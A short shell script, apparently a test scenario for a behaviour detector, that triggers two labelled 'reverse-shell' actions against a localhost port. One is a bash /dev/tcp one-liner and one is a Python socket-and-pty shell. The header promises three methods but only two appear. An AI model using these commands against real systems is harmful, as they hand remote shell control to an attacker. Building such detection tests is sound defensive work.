# A shell that calls home, three ways: by its own means, by a pipe, by another language.
. "$(dirname "$0")/scene.sh"
deed reverse-shell
bash -c "bash -i >& /dev/tcp/127.0.0.1/$sink 0>&1 </dev/null" 2>/dev/null || true
deed reverse-shell
timeout 1 python3 -c "
import os, pty, socket
s = socket.socket(); s.connect(('127.0.0.1', $sink))
[os.dup2(s.fileno(), n) for n in (0, 1, 2)]
pty.spawn('/bin/sh')" </dev/null >/dev/null 2>&1 || true
